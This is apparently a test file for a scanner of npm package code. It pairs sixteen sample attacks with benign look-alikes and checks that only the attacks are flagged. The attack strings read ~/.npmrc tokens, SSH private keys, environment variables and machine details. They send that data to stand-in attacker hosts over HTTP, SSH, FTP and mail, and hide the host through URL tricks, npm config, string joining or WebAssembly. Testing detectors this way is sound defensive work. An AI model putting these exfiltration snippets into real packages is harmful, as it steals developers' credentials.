import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { scan, signs } from './package-code.ts';

const MACHINE = `const os = require('os'); const machine = JSON.stringify([os.hostname(), os.userInfo(), os.networkInterfaces()]);`;
const TOKEN = `const fs = require('fs'), os = require('os'); const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');`;
const MODULE = `const bytes = fs.readFileSync(__dirname + '/pack.wasm');`;
const HOST = 'https://collect.attack.example';

/** Attacks in the shape of what is no sign in honest code, with the manifest's members. */
const ATTACKS: Readonly<Record<string, readonly [code: string, manifest?: object]>> = {
  'a login that carries the environment': [
    `const { Client } = require('ssh2'); new Client().connect({ host: 'relay.attack.example', username: 'u', password: Buffer.from(JSON.stringify(process.env)).toString('base64') });`,
  ],
  'a file of credentials, uploaded after a login': [
    `const ftp = require('basic-ftp'), os = require('os'); (async () => { const client = new ftp.Client(); await client.access({ host: 'ftp.attack.example', user: 'a', password: 'b' }); await client.uploadFrom(os.homedir() + '/.ssh/id_rsa', 'k'); })();`,
  ],
  'a host in a variable that the code sets': [
    `${MACHINE} process.env.METRICS = '${HOST}'; fetch(process.env.METRICS, { method: 'POST', body: machine });`,
  ],
  'a host name in a variable that the code sets by another name of the environment': [
    `${MACHINE} const env = process.env; env.METRICS = 'collect.attack.example'; require('https').request({ hostname: env.METRICS, method: 'POST' }).end(machine);`,
  ],
  'a host in a variable that the code sets with others': [
    `${MACHINE} Object.assign(process.env, { METRICS: '${HOST}' }); fetch(process.env.METRICS, { method: 'POST', body: machine });`,
  ],
  'a host that looks like a path': [
    `${MACHINE} fetch(new URL('/\\\\collect.attack.example/x', 'http://localhost'), { method: 'POST', body: machine });`,
  ],
  'a path with a base elsewhere': [
    `${MACHINE} fetch(new URL('/x', 'https://collect.attack.example'), { method: 'POST', body: machine });`,
  ],
  'a page with a login as its host': [
    `${MACHINE} fetch('https://' + location.host + ':x@collect.attack.example/', { method: 'POST', body: machine });`,
  ],
  'a host that begins with that of the page': [
    `${MACHINE} fetch('https://' + location.host + '.attack.example/', { method: 'POST', body: machine });`,
  ],
  'a page that a program says it has': [
    `globalThis.location = { host: '${HOST}' }; fetch('https://' + location.host, { method: 'POST', body: JSON.stringify(process.env) });`,
  ],
  'a file of credentials as an attachment': [
    `const os = require('os'); require('nodemailer').createTransport({ host: 'smtp.attack.example' }).sendMail({ to: 'a@b.example', attachments: [{ path: os.homedir() + '/.npmrc' }] });`,
  ],
  'a host in a variable that npm makes of the manifest': [
    `${MACHINE} fetch(process.env.npm_package_config_host, { method: 'POST', body: machine });`,
    { config: { host: HOST } },
  ],
  'a variable beside a host that is put together': [
    `${MACHINE} const host = () => ['col', 'lect'].join('') + '.example'; require('https').request({ hostname: host(), url: process.env.HOME, method: 'POST' }).end(machine);`,
  ],
  'a name of its own that is WebAssembly': [
    `const WebAssembly = { compile: (x) => x }; const fs = require('fs'), os = require('os'); fs.promises.readFile(os.homedir() + '/.npmrc', 'utf8').then((t) => WebAssembly.compile(t)).then((body) => fetch('${HOST}', { method: 'POST', body }));`,
  ],
  'a token that WebAssembly packs': [
    `${TOKEN} ${MODULE} WebAssembly.instantiate(bytes).then((made) => fetch('${HOST}', { method: 'POST', body: made.instance.exports.pack(token) }));`,
  ],
  'a token that WebAssembly imports': [
    `${TOKEN} ${MODULE} const made = new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { token } }); fetch('${HOST}', { method: 'POST', body: made.exports.pack() });`,
  ],
};

const HONEST: Readonly<Record<string, string>> = {
  'a login to a mail server': `const mail = require('nodemailer').createTransport({ host: 'smtp.mail.example', auth: { user: process.env.MAIL_USER, pass: process.env.MAIL_PASSWORD } }); exports.send = (message) => mail.sendMail(message);`,
  'a login with a key': `const { Client } = require('ssh2'), fs = require('fs'), os = require('os'); new Client().connect({ host: 'build.example', username: os.userInfo().username, privateKey: fs.readFileSync(os.homedir() + '/.ssh/id_rsa'), passphrase: process.env.SSH_PASSPHRASE });`,
  'a host that the user configures': `${MACHINE} fetch(process.env.METRICS, { method: 'POST', body: machine });`,
  'options with a host that the user configures': `${MACHINE} require('https').request({ hostname: process.env.METRICS_HOST, path: '/v1', method: 'POST' }).end(machine);`,
  'a module for WebAssembly that is downloaded': `fetch('https://cdn.example/a.wasm').then((r) => r.arrayBuffer()).then((b) => WebAssembly.instantiate(b)).then(({ instance }) => { module.exports = (x) => instance.exports.run(x); });`,
};

describe('code in the shape of what is no sign', () => {
  for (const [name, [code, manifest]] of Object.entries(ATTACKS))
    test(`is suspicious for ${name}`, () => {
      const record = scan(code, { scripts: { postinstall: 'node index.js' }, ...manifest });
      assert.ok(record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });

  for (const [name, code] of Object.entries(HONEST))
    test(`is not suspicious for ${name}`, () => {
      const record = scan(code);
      assert.ok(!record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });
});
